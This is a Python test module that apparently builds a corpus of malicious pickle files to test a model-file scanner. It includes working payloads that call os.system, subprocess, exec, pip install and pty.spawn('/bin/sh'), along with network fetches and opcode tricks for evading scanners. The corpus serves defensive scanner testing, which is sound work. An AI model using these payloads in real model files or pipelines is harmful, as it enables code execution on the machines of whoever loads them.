"""The hostile corpus: pickles built opcode by opcode from the techniques in the public advisories
for picklescan, modelscan and fickling, plus our own (tests only; nothing here loads them).

Every builder takes the path of a marker file and returns pickle bytes. Builders marked
``executes=True`` really create the marker when loaded with ``pickle.loads`` (a test checks
that in a subprocess, so the corpus cannot rot into dead payloads); the others reach
primitives that must not be run even in a test (network, pip, browsers, ...).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.pickleasm import (
    APPENDS,
    BUILD,
    DICT,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    TUPLE,
    TUPLE1,
    TUPLE2,
    binget,
    binint1,
    binput,
    binunicode,
    call,
    ext1,
    ext2,
    ext4,
    get0,
    glob,
    inst,
    program,
    put0,
    sglobal,
    short_binstring,
    string0,
    unicode0,
    ustr,
)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[str], bytes]
    executes: bool = False  # pickle.loads really creates the marker
    needs: str | None = None  # a module that must be importable for `executes`


def _sh(marker: str) -> str:
    return f"touch {marker}"


def _py(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _getattr_call(obj: bytes, attr: str, *args: bytes) -> bytes:
    """builtins.getattr(obj, attr)(*args): a method call on a computed object."""
    return call(glob("builtins", "getattr") + MARK + obj + ustr(attr) + TUPLE + REDUCE, *args)


CASES: list[Case] = [
    # --- the classic REDUCE payloads, every protocol and opcode that can name a global -------
    Case(
        "os.system p0",
        lambda m: program(call(glob("os", "system"), string0(_sh(m))), protocol=None),
        True,
    ),
    Case("os.system p2", lambda m: program(call(glob("os", "system"), ustr(_sh(m)))), True),
    Case("posix.system", lambda m: program(call(glob("posix", "system"), ustr(_sh(m)))), True),
    Case("os.popen", lambda m: program(call(glob("os", "popen"), ustr(_sh(m))))),
    Case(
        "subprocess.check_call",
        lambda m: program(
            call(
                glob("subprocess", "check_call"),
                EMPTY_LIST + MARK + ustr("touch") + ustr(m) + APPENDS,
            )
        ),
        True,
    ),
    Case(
        "subprocess.Popen shell",
        lambda m: program(call(glob("subprocess", "Popen"), ustr(_sh(m)), b"\x88")),
    ),
    Case("builtins.exec", lambda m: program(call(glob("builtins", "exec"), ustr(_py(m)))), True),
    Case("builtins.eval", lambda m: program(call(glob("builtins", "eval"), ustr(_py(m)))), True),
    Case(
        "__builtin__.eval p2 fix_imports",
        lambda m: program(call(glob("__builtin__", "eval"), ustr(_py(m)))),
        True,
    ),
    Case(
        "__builtin__.eval p0 fix_imports",
        lambda m: program(call(glob("__builtin__", "eval"), unicode0(_py(m))), protocol=None),
        True,
    ),
    Case(
        "builtins.compile",
        lambda m: program(call(glob("builtins", "compile"), ustr("1"), ustr("x"), ustr("eval"))),
    ),
    Case(
        "builtins.open write",
        lambda m: program(call(glob("builtins", "open"), ustr(m), ustr("w"))),
        True,
    ),
    Case("io.open", lambda m: program(call(glob("io", "open"), ustr(m), ustr("w"))), True),
    Case("_io.FileIO", lambda m: program(call(glob("_io", "FileIO"), ustr(m), ustr("w"))), True),
    Case("codecs.open", lambda m: program(call(glob("codecs", "open"), ustr(m), ustr("w"))), True),
    Case("_pyio.open", lambda m: program(call(glob("_pyio", "open"), ustr(m), ustr("w"))), True),
    Case(
        "getattr(__import__('os'), 'system')",
        lambda m: program(
            _getattr_call(call(glob("builtins", "__import__"), ustr("os")), "system", ustr(_sh(m)))
        ),
        True,
    ),
    Case(
        "importlib.import_module + getattr",
        lambda m: program(
            _getattr_call(
                call(glob("importlib", "import_module"), ustr("os")), "system", ustr(_sh(m))
            )
        ),
        True,
    ),
    Case(
        "pkgutil.resolve_name",
        lambda m: program(
            call(call(glob("pkgutil", "resolve_name"), ustr("os:system")), ustr(_sh(m)))
        ),
        True,
    ),
    Case(
        "pydoc.locate",
        lambda m: program(call(call(glob("pydoc", "locate"), ustr("os.system")), ustr(_sh(m)))),
        True,
    ),
    Case(
        "operator.attrgetter on an imported module",
        lambda m: program(
            call(
                call(
                    call(glob("operator", "attrgetter"), ustr("system")),
                    call(glob("builtins", "__import__"), ustr("os")),
                ),
                ustr(_sh(m)),
            )
        ),
        True,
    ),
    Case(
        "_operator.methodcaller",
        lambda m: program(
            call(
                call(glob("_operator", "methodcaller"), ustr("system"), ustr(_sh(m))),
                call(glob("builtins", "__import__"), ustr("os")),
            )
        ),
        True,
    ),
    Case(
        "functools.partial wrapper",
        lambda m: program(
            call(call(glob("functools", "partial"), glob("os", "system"), ustr(_sh(m))))
        ),
        True,
    ),
    Case(
        "functools.reduce",
        lambda m: program(
            call(glob("functools", "reduce"), glob("os", "system"), MARK + ustr(_sh(m)) + TUPLE)
        ),
    ),
    Case(
        "itertools.starmap",
        lambda m: program(
            call(
                glob("itertools", "starmap"),
                glob("os", "system"),
                MARK + MARK + ustr(_sh(m)) + TUPLE + TUPLE,
            )
        ),
    ),
    Case(
        "pip.main",
        lambda m: program(
            call(
                glob("pip", "main"),
                EMPTY_LIST + MARK + ustr("install") + ustr("evil-package") + APPENDS,
            )
        ),
    ),
    Case("pip._internal.main", lambda m: program(call(glob("pip._internal", "main"), EMPTY_LIST))),
    Case(
        "numpy.testing runstring",
        lambda m: program(
            call(glob("numpy.testing._private.utils", "runstring"), ustr(_py(m)), EMPTY_DICT)
        ),
        True,
        "numpy",
    ),
    Case(
        "numpy.f2py.crackfortran",
        lambda m: program(
            call(glob("numpy.f2py.crackfortran", "getlincoef"), ustr("1"), EMPTY_DICT)
        ),
    ),
    Case(
        "numpy.load allow_pickle", lambda m: program(call(glob("numpy", "load"), ustr(m), b"\x88"))
    ),
    Case(
        "numpy.lib.npyio.load",
        lambda m: program(call(glob("numpy.lib._npyio_impl", "load"), ustr(m))),
    ),
    Case(
        "numpy.fromfile",
        lambda m: program(call(glob("numpy._core.multiarray", "fromfile"), ustr(m))),
    ),
    Case(
        "numpy.lib.DataSource",
        lambda m: program(
            call(glob("numpy.lib._datasource", "open"), ustr("http://example.invalid/x"))
        ),
    ),
    Case("torch.load nested", lambda m: program(call(glob("torch", "load"), ustr(m)))),
    Case(
        "torch.serialization.load",
        lambda m: program(call(glob("torch.serialization", "load"), ustr(m))),
    ),
    Case(
        "torch.storage._load_from_bytes",
        lambda m: program(call(glob("torch.storage", "_load_from_bytes"), b"C\x00")),
    ),
    Case(
        "torch.utils.collect_env.run",
        lambda m: program(call(glob("torch.utils.collect_env", "run"), ustr(_sh(m)))),
    ),
    Case(
        "torch._utils._import_dotted_name",
        lambda m: program(
            call(call(glob("torch._utils", "_import_dotted_name"), ustr("os.system")), ustr(_sh(m)))
        ),
    ),
    Case(
        "torch.jit execWrapper",
        lambda m: program(
            call(
                glob("torch.jit.unsupported_tensor_ops", "execWrapper"),
                ustr(_py(m)),
                EMPTY_DICT,
                EMPTY_DICT,
            )
        ),
    ),
    Case(
        "torch._dynamo", lambda m: program(call(glob("torch._dynamo.guards", "GuardBuilder"), NONE))
    ),
    Case(
        "torch._inductor compile",
        lambda m: program(
            call(glob("torch._inductor.codecache", "compile_file"), ustr(m), ustr(m), EMPTY_LIST)
        ),
    ),
    Case(
        "torch.fx symbolic_shapes eval",
        lambda m: program(call(glob("torch.fx.experimental.symbolic_shapes", "ShapeEnv"), NONE)),
    ),
    Case(
        "torch.utils.bottleneck",
        lambda m: program(
            call(glob("torch.utils.bottleneck.__main__", "run_cprofile"), ustr(_py(m)), EMPTY_DICT)
        ),
    ),
    Case(
        "torch.utils._config_module pickle",
        lambda m: program(call(glob("torch.utils._config_module", "ConfigModule"), NONE)),
    ),
    Case(
        "torch.utils.data decoder",
        lambda m: program(
            call(
                glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                ustr("pickle"),
                b"C\x00",
            )
        ),
    ),
    Case(
        "torch.hub.load",
        lambda m: program(call(glob("torch.hub", "load"), ustr("evil/repo"), ustr("model"))),
    ),
    Case(
        "torch.cpp_extension.load_inline",
        lambda m: program(
            call(glob("torch.utils.cpp_extension", "load_inline"), ustr("x"), ustr("int x;"))
        ),
    ),
    Case(
        "torch.package importer",
        lambda m: program(call(glob("torch.package", "PackageImporter"), ustr(m))),
    ),
    Case(
        "torch.distributed.rpc",
        lambda m: program(
            call(glob("torch.distributed.rpc", "rpc_sync"), ustr("w"), glob("os", "system"))
        ),
    ),
    Case("torch.ops", lambda m: program(call(glob("torch.ops", "load_library"), ustr(m)))),
    Case(
        "torch.UntypedStorage.from_file",
        lambda m: program(
            call(glob("torch.storage", "UntypedStorage.from_file"), ustr(m), b"\x88", binint1(8)),
            protocol=4,
        ),
    ),
    Case(
        "asyncio subprocess",
        lambda m: program(call(glob("asyncio.unix_events", "_UnixSubprocessTransport"), NONE)),
    ),
    Case(
        "asyncio.create_subprocess_shell",
        lambda m: program(call(glob("asyncio", "create_subprocess_shell"), ustr(_sh(m)))),
    ),
    Case(
        "ctypes.CDLL",
        lambda m: program(
            _getattr_call(call(glob("ctypes", "CDLL"), NONE), "system", binunicode(_sh(m)))
        ),
    ),
    Case(
        "runpy._run_code",
        lambda m: program(call(glob("runpy", "_run_code"), ustr(_py(m)), EMPTY_DICT)),
        True,
    ),
    Case(
        "code.InteractiveInterpreter",
        lambda m: program(
            _getattr_call(call(glob("code", "InteractiveInterpreter")), "runsource", ustr(_py(m)))
        ),
        True,
    ),
    Case(
        "timeit.timeit",
        lambda m: program(
            call(
                glob("timeit", "timeit"),
                ustr(_py(m)),
                ustr("pass"),
                glob("time", "perf_counter"),
                binint1(1),
            )
        ),
        True,
    ),
    Case("cProfile.run", lambda m: program(call(glob("cProfile", "run"), ustr(_py(m))))),
    Case("profile.run", lambda m: program(call(glob("profile", "run"), ustr(_py(m))))),
    Case("pdb.run", lambda m: program(call(glob("pdb", "run"), ustr(_py(m))))),
    Case(
        "bdb.Bdb.run",
        lambda m: program(_getattr_call(call(glob("bdb", "Bdb")), "run", ustr(_py(m)))),
    ),
    Case(
        "trace.Trace.runctx",
        lambda m: program(
            _getattr_call(
                call(glob("trace", "Trace")), "runctx", ustr(_py(m)), EMPTY_DICT, EMPTY_DICT
            )
        ),
    ),
    Case(
        "doctest.debug_script",
        lambda m: program(call(glob("doctest", "debug_script"), ustr(_py(m)))),
    ),
    Case(
        "idlelib run", lambda m: program(call(glob("idlelib.pyshell", "ModifiedInterpreter"), NONE))
    ),
    Case(
        "lib2to3 grammar loads",
        lambda m: program(
            call(glob("lib2to3.pgen2.grammar", "Grammar.loads"), b"C\x00"), protocol=4
        ),
    ),
    Case(
        "webbrowser.open",
        lambda m: program(call(glob("webbrowser", "open"), ustr("http://example.invalid/"))),
    ),
    Case("shutil.rmtree", lambda m: program(call(glob("shutil", "rmtree"), ustr(m)))),
    Case(
        "shutil.copyfile",
        lambda m: program(call(glob("shutil", "copyfile"), ustr("/etc/hostname"), ustr(m))),
    ),
    Case("tempfile.mkstemp", lambda m: program(call(glob("tempfile", "mkstemp")))),
    Case("glob.glob", lambda m: program(call(glob("glob", "glob"), ustr("/*")))),
    Case(
        "socket.create_connection",
        lambda m: program(
            call(
                glob("socket", "create_connection"),
                MARK + ustr("example.invalid") + binint1(80) + TUPLE,
            )
        ),
    ),
    Case(
        "http.client",
        lambda m: program(call(glob("http.client", "HTTPConnection"), ustr("example.invalid"))),
    ),
    Case(
        "urllib.request.urlopen",
        lambda m: program(call(glob("urllib.request", "urlopen"), ustr("http://example.invalid/"))),
    ),
    Case(
        "requests.get",
        lambda m: program(call(glob("requests", "get"), ustr("http://example.invalid/"))),
    ),
    Case("aiohttp", lambda m: program(call(glob("aiohttp", "ClientSession")))),
    Case(
        "mailcap.findmatch",
        lambda m: program(call(glob("mailcap", "findmatch"), EMPTY_DICT, ustr("text/plain"))),
    ),
    Case(
        "imaplib.IMAP4_stream",
        lambda m: program(call(glob("imaplib", "IMAP4_stream"), ustr(_sh(m)))),
    ),
    Case(
        "distutils write_file",
        lambda m: program(call(glob("distutils.file_util", "write_file"), ustr(m), EMPTY_LIST)),
    ),
    Case("marshal.loads", lambda m: program(call(glob("marshal", "loads"), b"C\x00"))),
    Case("pickle.loads nested", lambda m: program(call(glob("pickle", "loads"), b"C\x00"))),
    Case("_pickle.loads nested", lambda m: program(call(glob("_pickle", "loads"), b"C\x00"))),
    Case(
        "types.FunctionType",
        lambda m: program(call(glob("types", "FunctionType"), NONE, EMPTY_DICT)),
    ),
    Case("sys.modules traversal", lambda m: program(glob("sys", "modules"))),
    Case(
        "logging.config.listen",
        lambda m: program(call(glob("logging.config", "listen"), binint1(9))),
    ),
    Case(
        "multiprocessing spawn",
        lambda m: program(
            call(
                glob("multiprocessing.util", "spawnv_passfds"),
                ustr("/bin/sh"),
                EMPTY_LIST,
                EMPTY_LIST,
            )
        ),
    ),
    Case(
        "_posixsubprocess.fork_exec",
        lambda m: program(call(glob("_posixsubprocess", "fork_exec"), NONE)),
    ),
    Case("pty.spawn", lambda m: program(call(glob("pty", "spawn"), ustr("/bin/sh")))),
    Case("venv.create", lambda m: program(call(glob("venv", "create"), ustr(m)))),
    Case("ensurepip.bootstrap", lambda m: program(call(glob("ensurepip", "bootstrap")))),
    Case(
        "setuptools sandbox",
        lambda m: program(call(glob("setuptools.sandbox", "run_setup"), ustr(m), EMPTY_LIST)),
    ),
    Case(
        "threading.Thread",
        lambda m: program(call(glob("threading", "Thread"), NONE, glob("os", "system"))),
    ),
    Case(
        "atexit.register",
        lambda m: program(call(glob("atexit", "register"), glob("os", "system"), ustr(_sh(m)))),
    ),
    Case(
        "weakref.finalize",
        lambda m: program(
            call(glob("weakref", "finalize"), EMPTY_LIST, glob("os", "system"), ustr(_sh(m)))
        ),
    ),
    Case("builtins.breakpoint", lambda m: program(call(glob("builtins", "breakpoint")))),
    Case("builtins.help (pydoc)", lambda m: program(call(glob("builtins", "help"), ustr("os")))),
    Case(
        "builtins.__build_class__",
        lambda m: program(
            call(glob("builtins", "__build_class__"), glob("os", "system"), ustr("x"))
        ),
    ),
    Case(
        "builtins.type class creation",
        lambda m: program(call(glob("builtins", "type"), ustr("X"), MARK + TUPLE, EMPTY_DICT)),
    ),
    Case("builtins.license reads files", lambda m: program(call(glob("builtins", "license")))),
    Case(
        "copyreg.__newobj__",
        lambda m: program(call(glob("copyreg", "__newobj__"), glob("subprocess", "Popen"))),
    ),
    Case(
        "copyreg._reconstructor of Popen",
        lambda m: program(
            call(
                glob("copyreg", "_reconstructor"),
                glob("subprocess", "Popen"),
                glob("builtins", "object"),
                NONE,
            )
        ),
    ),
    Case(
        "collections.defaultdict factory os.system",
        lambda m: program(call(glob("collections", "defaultdict"), glob("os", "system"))),
    ),
    Case(
        "numpy _reconstruct of a dangerous subtype",
        lambda m: program(
            call(
                glob("numpy._core.multiarray", "_reconstruct"),
                glob("subprocess", "Popen"),
                MARK + binint1(0) + TUPLE1,
                b"C\x01b",
            )
        ),
    ),
    Case(
        "torch rebuild_from_type_v2 of os.system",
        lambda m: program(
            call(
                glob("torch._tensor", "_rebuild_from_type_v2"),
                glob("os", "system"),
                glob("torch", "Tensor"),
                MARK + ustr(_sh(m)) + TUPLE,
                NONE,
            )
        ),
    ),
    Case(
        "scanner tampering (ckptguard)",
        lambda m: program(call(glob("ckptguard._policy._judge", "Policy"))),
    ),
    Case(
        "scanner tampering (picklescan)",
        lambda m: program(call(glob("picklescan.scanner", "scan_pickle_bytes"), NONE, binint1(0))),
    ),
    # --- opcode tricks ------------------------------------------------------------------------
    Case(
        "STACK_GLOBAL with memoized operands (BINPUT/MEMOIZE memo confusion)",
        lambda m: program(
            short_binstring("os")
            + binput(0)
            + POP
            + short_binstring("system")
            + binput(1)
            + POP
            + ustr("torch._utils")
            + MEMOIZE
            + POP  # MEMOIZE stores at len(memo) == 2, not 0
            + ustr("_rebuild_tensor_v2")
            + MEMOIZE
            + POP
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + MARK
            + ustr(_sh(m))
            + TUPLE
            + REDUCE,
            protocol=4,
        ),
        True,
    ),
    Case(
        "STACK_GLOBAL with PUT/GET text memo",
        lambda m: program(
            ustr("os")
            + put0(7)
            + POP
            + ustr("system")
            + put0(8)
            + POP
            + get0(7)
            + get0(8)
            + STACK_GLOBAL
            + ustr(_sh(m))
            + TUPLE1
            + REDUCE,
            protocol=4,
        ),
        True,
    ),
    Case(
        "STACK_GLOBAL operands built at load time (dynamic)",
        lambda m: program(
            call(glob("builtins", "str"), ustr("os"))
            + ustr("system")
            + STACK_GLOBAL
            + ustr(_sh(m))
            + TUPLE1
            + REDUCE,
            protocol=4,
        ),
    ),
    Case(
        "STACK_GLOBAL operands from a vetted call (str.join)",
        lambda m: program(
            call(glob("builtins", "str"), ustr("o"))
            + ustr("system")
            + STACK_GLOBAL
            + ustr(_sh(m))
            + TUPLE1
            + REDUCE,
            protocol=4,
        ),
    ),
    Case(
        "STACK_GLOBAL protocol 4 dotted builtins.getattr",
        lambda m: program(
            _getattr_call(
                call(sglobal("builtins", "__import__"), ustr("os")), "system", ustr(_sh(m))
            ),
            protocol=4,
        ),
        True,
    ),
    Case(
        "dotted traversal torch.serialization.os.system",
        lambda m: program(
            call(sglobal("torch", "serialization.os.system"), ustr(_sh(m))), protocol=4
        ),
    ),
    Case(
        "dotted traversal through a module alias argparse._os",
        lambda m: program(call(sglobal("argparse", "_os.system"), ustr(_sh(m))), protocol=4),
        True,
    ),
    Case(
        "dotted traversal collections.os",
        lambda m: program(call(sglobal("collections", "_sys.modules.get"), ustr("os")), protocol=4),
    ),
    Case(
        "dotted traversal numpy core._internal.sys",
        lambda m: program(
            call(sglobal("numpy", "core._internal.sys.modules.get"), ustr("os")), protocol=4
        ),
    ),
    Case(
        "dotted traversal through a vetted global builtins.dict.get",
        lambda m: program(
            call(sglobal("builtins", "dict.get"), sglobal("numpy", "__builtins__"), ustr("exec")),
            protocol=4,
        ),
    ),
    Case(
        "dotted traversal pathlib.PurePosixPath dunder",
        lambda m: program(sglobal("pathlib", "PurePosixPath.__init__.__globals__"), protocol=4),
    ),
    Case(
        "dotted traversal vetted class method (OrderedDict.fromkeys)",
        lambda m: program(
            call(sglobal("collections", "OrderedDict.fromkeys"), EMPTY_LIST), protocol=4
        ),
    ),
    Case(
        "INST builtins.eval",
        lambda m: program(MARK + ustr(_py(m)) + inst("builtins", "eval"), protocol=None),
        True,
    ),
    Case(
        "INST os.system",
        lambda m: program(MARK + string0(_sh(m)) + inst("os", "system"), protocol=None),
        True,
    ),
    Case(
        "OBJ os.system",
        lambda m: program(MARK + glob("os", "system") + string0(_sh(m)) + OBJ, protocol=None),
        True,
    ),
    Case(
        "NEWOBJ subprocess.Popen",
        lambda m: program(glob("subprocess", "Popen") + MARK + ustr(_sh(m)) + TUPLE + NEWOBJ),
    ),
    Case(
        "NEWOBJ_EX subprocess.Popen",
        lambda m: program(
            glob("subprocess", "Popen") + MARK + ustr(_sh(m)) + TUPLE + EMPTY_DICT + NEWOBJ_EX,
            protocol=4,
        ),
    ),
    Case("EXT1", lambda m: program(ext1(1) + MARK + ustr(_sh(m)) + TUPLE + REDUCE)),
    Case("EXT2", lambda m: program(ext2(300) + MARK + ustr(_sh(m)) + TUPLE + REDUCE)),
    Case("EXT4", lambda m: program(ext4(70000) + MARK + ustr(_sh(m)) + TUPLE + REDUCE)),
    Case(
        "BUILD on a global (monkey-patch numpy.prod, then reach os.system through it)",
        lambda m: program(
            glob("numpy", "prod")
            + NONE
            + MARK
            + unicode0("a")
            + unicode0("os")
            + DICT
            + TUPLE2
            + BUILD
            + POP
            + sglobal("numpy", "prod.a"),
            protocol=4,
        ),
    ),
    Case(
        "SETITEM on a global's namespace",
        lambda m: program(
            glob("collections", "OrderedDict") + ustr("x") + glob("os", "system") + SETITEM
        ),
    ),
    Case(
        "indirect call of a computed callable",
        lambda m: program(
            call(call(glob("builtins", "getattr"), glob("os", "path"), ustr("exists")), ustr(m))
        ),
    ),
    Case(
        "GLOBAL name with a trailing carriage return",
        lambda m: program(call(b"cos\r\nsystem\r\n", ustr(_sh(m))), protocol=None),
    ),
    Case(
        "payload injected before a benign value and discarded (fickling inject)",
        lambda m: program(call(glob("os", "system"), ustr(_sh(m))) + POP + EMPTY_DICT),
        True,
    ),
    Case(
        "payload hidden in a dict value",
        lambda m: program(
            EMPTY_DICT + ustr("weights") + call(glob("os", "system"), ustr(_sh(m))) + SETITEM
        ),
        True,
    ),
]
